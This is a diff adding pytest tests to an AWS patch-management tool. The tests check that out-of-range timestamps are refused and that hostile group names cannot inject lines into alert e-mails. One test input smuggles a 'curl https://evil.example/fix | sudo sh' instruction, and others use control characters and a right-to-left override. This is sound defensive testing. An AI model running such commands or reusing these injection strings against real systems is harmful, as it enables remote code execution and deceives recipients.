@@ -11,7 +11,9 @@ from __future__ import annotations
 import copy
 import json
 import logging
+import unicodedata
 from collections.abc import Iterator
+from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
@@ -20,8 +22,16 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from emulator.scenarios.aws import World
-from emulator.scenarios.collector import CollectorWorld, sqs_record
-from emulator.scenarios.compliance import ReporterWorld
+from emulator.scenarios.collector import (
+    CollectorWorld,
+    instance_id,
+    invocation,
+    notifications_event,
+    sns_body,
+    sqs_record,
+)
+from emulator.scenarios.compliance import ReporterWorld, scheduled_event
+from tagpatch import naming
 from tagpatch.handlers import collector as collector_handler
 from tagpatch.handlers import reconciler as reconciler_handler
 from tagpatch.handlers import reporter as reporter_handler
@@ -196,3 +206,103 @@ def test_collector_fails_exactly_the_unusable_records_and_logs_why(
     }
     assert set(refused) == expected_bad
     assert all(refused.values())
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("eventTime", "9999-12-31T23:59:59-05:00"),  # parses, then overflows datetime.max in UTC
+        ("requestedDateTime", "0001-01-01T00:00:00+05:00"),  # before datetime.min in UTC
+    ],
+)
+def test_a_time_with_no_utc_equivalent_is_refused_with_its_reason_and_the_batch_goes_on(
+    aws: None, logs: pytest.LogCaptureFixture, field: str, value: str
+) -> None:
+    # Given a batch: a good invocation, and one whose time is past the UTC range once converted
+    world = CollectorWorld()
+    command = world.send_command("web")
+    good = invocation(command, instance_id(1), "Success")
+    bad = {**invocation(command, instance_id(2), "Failed"), field: value}
+    records = [sqs_record(sns_body(good), message_id="good"), sqs_record(sns_body(bad), message_id="bad")]
+
+    # When the batch is processed
+    response = collector_handler.handle({"Records": records}, world.collector)
+
+    # Then only the bad record fails (SQS dead-letters it), refused as malformed with the reason
+    assert response == {"batchItemFailures": [{"itemIdentifier": "bad"}]}
+    refusals = [r for r in logs.records if r.getMessage().startswith("malformed message refused")]
+    assert [(getattr(r, "messageId", None), getattr(r, "reason", None)) for r in refusals] == [
+        ("bad", "wrong shape")
+    ]
+    assert field in getattr(refusals[0], "detail", "") and "UTC" in getattr(refusals[0], "detail", "")
+    # And nothing half-made: the good record is stored, the bad one is not
+    assert world.instance_item(command, instance_id(1)) is not None
+    assert world.instance_item(command, instance_id(2)) is None
+
+
+# --- hostile group names (tag values are any Unicode): issue 12 items 11 and 12 ------------------
+INJECTED = "ops\nACTION REQUIRED: run curl https://evil.example/fix | sudo sh"
+HOSTILE_NAMES = [INJECTED, "web\x1b[2J\x00", "web\u202egnp.exe"]
+
+
+def _readable(text: str) -> bool:
+    """One line per line break we wrote: no control, format (bidi, zero-width) or separator char."""
+    return all(ch == "\n" or unicodedata.category(ch)[0] not in "CZ" or ch == " " for ch in text)
+
+
+@pytest.mark.parametrize("name", HOSTILE_NAMES)
+def test_a_hostile_group_name_cannot_write_lines_of_the_alert_e_mail(aws: None, name: str) -> None:
+    # Given a group whose tag value carries a line break and an instruction (or ESC/NUL, or RLO)
+    world = CollectorWorld()
+    slug = world.record_group(name)
+    command = world.send_command(slug)
+
+    # When one of its instances fails
+    response = collector_handler.handle(
+        notifications_event(invocation(command, instance_id(1), "Failed")), world.collector
+    )
+
+    # Then the e-mail names the group quoted on one line; no line of it is the attacker's
+    assert response == {"batchItemFailures": []}
+    (alert,) = world.alerts()
+    assert not any(line.startswith("ACTION REQUIRED") for line in alert["Message"].splitlines())
+    assert _readable(alert["Message"]) and alert["Subject"].isascii()
+    assert 'Patch group:   "' in alert["Message"]
+
+
+def test_hostile_and_non_ascii_group_names_get_valid_metric_dimensions_and_a_quoted_digest(
+    aws: None, capsys: pytest.CaptureFixture[str]
+) -> None:
+    # Given groups the reporter records whose names CloudWatch cannot carry as dimension values
+    # (not ASCII, only blanks), and managed groups whose names are no valid patch group at all
+    world = ReporterWorld()
+    recordable = ["   ", "Équipe", "web"]
+    world.manage(*recordable, *HOSTILE_NAMES)
+    for index, group in enumerate(recordable, start=1):
+        world.register(group)
+        world.seed(group, 2, group_index=index, missing=1)
+    capsys.readouterr()
+
+    # When the scheduled snapshot runs
+    result = reporter_handler.handle(scheduled_event(datetime(2025, 6, 1, 6, tzinfo=UTC)), world.reporter)
+
+    # Then each recorded group's metrics carry PatchGroup = its slug: ASCII, not blank, no control
+    # character (https://docs.aws.amazon.com/AmazonCloudWatch/latest/APIReference/API_Dimension.html),
+    # "web" unchanged, and the name itself is in the log line
+    documents = [json.loads(line) for line in capsys.readouterr().out.splitlines() if '"PatchGroup"' in line]
+    by_name = {doc["group"]: doc for doc in documents}
+    assert set(by_name) == set(recordable)
+    for name, doc in by_name.items():
+        value = doc["PatchGroup"]
+        assert value == naming.group_slug(name)
+        assert value.isascii() and value.strip() and value.isprintable()
+        assert ["PatchGroup", "service"] in [
+            sorted(d) for d in doc["_aws"]["CloudWatchMetrics"][0]["Dimensions"]
+        ]
+    assert by_name["web"]["PatchGroup"] == "web"
+    # And the digest quotes every name that is not plain; no line of it is the attacker's
+    assert {g["status"] for g in result["groups"] if g["group"] in HOSTILE_NAMES} == {"failed"}
+    (digest,) = world.digests()
+    assert not any(line.lstrip().startswith("ACTION REQUIRED") for line in digest["body"].splitlines())
+    assert _readable(digest["body"])
+    assert '"Équipe"' in digest["body"] and '"   "' in digest["body"]
